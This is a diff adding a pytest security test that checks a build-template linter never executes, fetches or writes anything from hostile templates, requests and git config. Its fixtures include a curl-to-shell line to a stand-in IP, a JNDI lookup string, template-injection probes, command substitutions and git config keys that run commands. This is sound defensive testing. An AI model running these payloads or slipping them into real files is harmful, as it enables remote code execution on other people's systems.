@@ -1,0 +1,239 @@
+"""Nothing of a template is run, the network is not touched, and only what was asked for is written.
+
+Python's audit hooks see each process, connection and change to a file (tests/audited.py).
+"""
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+
+from buildlint.emitters import FORMATS as EMITTERS
+from buildlint.reporters import FORMATS as REPORTERS
+from tests import needs
+
+AUDITED = Path(__file__).with_name("audited.py")
+
+# Every place of a template and of a request that something could run, fetch or read.
+TEMPLATE = """\
+# shellcheck source=/etc/passwd
+# syntax=docker/dockerfile:1
+from IMAGE:m-bp67acfmxazb4p0abcde
+ENV A="$(touch run-by-env)" B="`touch run-by-env`" LD_PRELOAD="./run.so"
+RUN touch run-by-run; $(touch run-by-run) `touch run-by-run` && curl http://198.51.100.7/x | sh
+RUN . ./run.sh && source run.sh && python3 -c 'open("run-by-run", "w")'
+RUN <<EOF
+touch run-by-here-document
+EOF
+COPY http://198.51.100.7/archive.tar.gz /opt/
+COPY https://user:hunter2-of-mine@example.com/archive.tar.gz /opt/
+CMD ["sh", "-c", "touch run-by-cmd"]
+ENTRYPOINT touch run-by-entrypoint
+WORKDIR $(touch run-by-workdir)
+USER `touch run-by-user`
+LABEL a="${x:=$(touch run-by-label)}"
+"""
+# The same in a template that compiles.
+COMPILES = """\
+FROM IMAGE:m-bp67acfmxazb4p0abcde
+RUN touch run-by-run; $(touch run-by-run) `touch run-by-run` && curl http://198.51.100.7/x | sh
+RUN . ./run.sh && source run.sh
+COPY http://198.51.100.7/archive.tar.gz /opt/
+"""
+REQUEST = """\
+RegionId = "cn-hangzhou"
+Description = "`touch run-by-request`; ${jndi:ldap://198.51.100.7/x} {{7*7}} #{touch} http://198.51.100.7/"
+"""
+DOCKERFILE = """\
+# syntax=docker/dockerfile:1
+FROM ubuntu:22.04 AS build
+ARG A="$(touch run-by-arg)"
+ADD http://198.51.100.7/archive.tar.gz /opt/
+RUN touch run-by-run
+COPY run.sh /opt/
+"""
+RUN_ME = "touch run-by-something\n"
+# A repository says what git runs to see what changed, and for much else.
+GIT_CONFIG = """\
+[core]
+	repositoryformatversion = 0
+	fsmonitor = touch run-by-git; false
+	hooksPath = .
+	pager = touch run-by-git
+	sshCommand = touch run-by-git
+[alias]
+	ls-files = !touch run-by-git
+"""
+
+
+class Seen(NamedTuple):
+    """What a run did."""
+
+    events: list[list[str]]
+    modules: list[str]
+    stderr: str
+
+    def processes(self) -> list[list[str]]:
+        return [rest for event, *rest in self.events if event == "subprocess.Popen"]
+
+    def changed(self) -> set[str]:
+        """The names of files and folders that were opened to be written, or moved, or deleted."""
+        about = {rest[0] for event, *rest in self.events if event != "subprocess.Popen"}
+        return {path for path in about if path != os.devnull}
+
+    def others(self) -> set[str]:
+        """The events that are neither known processes nor changes to files."""
+        changes = (
+            "open",
+            "os.re",
+            "os.mkdir",
+            "os.rmdir",
+            "os.chmod",
+            "tempfile.",
+            "shutil.rmtree",
+        )
+        known = ("subprocess.Popen", *changes)
+        return {event for event, *_ in self.events if not event.startswith(known)}
+
+
+@pytest.fixture(autouse=True)
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A folder that would like to be run."""
+    folder = tmp_path / "project"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    subprocess.run(["git", "init", "-q"], check=True)
+    Path(".git/config").write_text(GIT_CONFIG, "utf-8")
+    for name, text in (
+        ("bad.buildcontent", TEMPLATE),
+        ("bad.request.toml", REQUEST),
+        ("good.buildcontent", COMPILES),
+        ("good.request.toml", REQUEST),
+        ("Dockerfile", DOCKERFILE),
+        (".shellcheckrc", "external-sources=true\n"),
+    ):
+        Path(name).write_text(text, "utf-8")
+    for name in ("git", "shellcheck", "run.sh", "sh", "bash"):
+        Path(name).write_text(f"#!/bin/sh\n{RUN_ME}", "utf-8")
+        Path(name).chmod(0o755)
+    for name in ("click", "lark", "tomllib", "sitecustomize", "usercustomize", "buildlint"):
+        Path(f"{name}.py").write_text("open('run-by-import', 'w')\n", "utf-8")
+    return folder
+
+
+def run(*arguments: str, stdin: str = "") -> Seen:
+    log = Path.cwd().parent / "log.json"
+    temporary = Path.cwd().parent / "temporary"
+    temporary.mkdir(exist_ok=True)
+    done = subprocess.run(
+        [sys.executable, AUDITED, log, *arguments],
+        input=stdin,
+        capture_output=True,
+        text=True,
+        check=False,
+        env={**os.environ, "TMPDIR": os.fspath(temporary), "PYTHONDONTWRITEBYTECODE": "1"},
+    )
+    assert "Traceback" not in done.stderr
+    return Seen(**json.loads(log.read_text("utf-8")), stderr=done.stderr)
+
+
+def names() -> set[str]:
+    return {os.fspath(path) for path in Path().rglob("*")}
+
+
+def is_known(process: list[str]) -> bool:
+    """Whether it is git, asked what it ignores, or ShellCheck, shown files of its own."""
+    program, *arguments = process
+    if program == "git":
+        return arguments[:4] == ["-c", "core.fsmonitor=false", "ls-files", "-z"]
+    options, files = arguments[:4], arguments[4:]
+    return (
+        program == needs.shellcheck()
+        and options == ["--norc", "--shell=bash", "--format=json1", "--"]
+        and all(file.isdigit() for file in files)
+    )
+
+
+def is_temporary(path: str) -> bool:
+    """Whether it lies in the folder of what ShellCheck is shown, whose files have numbers."""
+    return Path(path).is_relative_to(Path.cwd().parent / "temporary") or path.isdigit()
+
+
+CONVERT = ("convert", "--embed-files", "--base", "IMAGE:m-1")
+COMMANDS = [
+    *(("check", "--output-format", name) for name in REPORTERS if name != "statistics"),
+    ("check", "--select", "ALL", "--statistics", "--fail-on", "info"),
+    ("check", "--diff", "--unsafe-fixes"),
+    ("check", "bad.request.toml"),
+    ("check", "-"),
+    ("check", "--fix", "-"),
+    *(("compile", "good.buildcontent", "--format", name) for name in EMITTERS),
+    ("compile", "good.buildcontent", "--pack"),
+    ("compile", "bad.buildcontent"),
+    *(("plan", "good.buildcontent", "--format", name) for name in ("text", "json", "html")),
+    ("plan", "bad.buildcontent"),
+    ("format", "--check"),
+    ("format", "--diff"),
+    ("format", "-"),
+    CONVERT,
+    ("convert", "--base", "IMAGE:m-1", "--output-format", "json"),  # run.sh is refused
+    ("rule", "--all"),
+    ("config",),
+]
+
+
+@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
+def test_nothing_is_run_and_nothing_is_written(arguments: tuple[str, ...]) -> None:
+    before = names()
+    seen = run(*arguments, stdin=TEMPLATE)
+    succeeds = "good.buildcontent" in arguments or arguments == CONVERT
+    assert f"exit code {'0' if succeeds else ''}" in seen.stderr
+    assert seen.others() == set()
+    assert [process for process in seen.processes() if not is_known(process)] == []
+    assert [path for path in seen.changed() if not is_temporary(path)] == []
+    assert names() == before
+    assert not [path for path in seen.modules if Path(path).parent == Path.cwd()]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "written"),
+    [
+        (("check", "--fix"), "bad.buildcontent"),
+        (("check", "--add-ignore"), "bad.buildcontent"),
+        (("check", "-o", "report"), "report"),
+        (("format",), "bad.buildcontent"),
+        (("compile", "good.buildcontent", "-o", "out.json"), "out.json"),
+        (("plan", "good.buildcontent", "-o", "plan"), "plan"),
+        ((*CONVERT, "-o", "new.buildcontent"), "new.buildcontent"),
+    ],
+    ids=lambda value: value if isinstance(value, str) else " ".join(value),
+)
+def test_only_what_was_asked_for_is_written(arguments: tuple[str, ...], written: str) -> None:
+    before = {name: Path(name).stat().st_mtime_ns for name in names() if Path(name).is_file()}
+    seen = run(*arguments)
+    after = {name: Path(name).stat().st_mtime_ns for name in names() if Path(name).is_file()}
+    changed = {name for name, time in after.items() if before.get(name) != time}
+    assert written in changed
+    assert {name for name in changed if not name.endswith(".buildcontent")} <= {written}
+    assert seen.others() == set()
+    assert [process for process in seen.processes() if not is_known(process)] == []
+
+
+def test_the_hooks_see_what_they_are_to_see() -> None:
+    code = (
+        "import os, socket, subprocess\n"
+        "subprocess.run(['true'])\n"
+        "os.system('true')\n"
+        "try: socket.create_connection(('127.0.0.1', 1))\n"
+        "except OSError: pass\n"
+        "open('written', 'w')\n"
+    )
+    seen = run("--exec", code)
+    assert seen.processes() == [["true"]]
+    assert {"os.system", "socket.getaddrinfo", "socket.connect"} <= seen.others()
+    assert "written" in seen.changed()
+    assert not is_known(["true"])
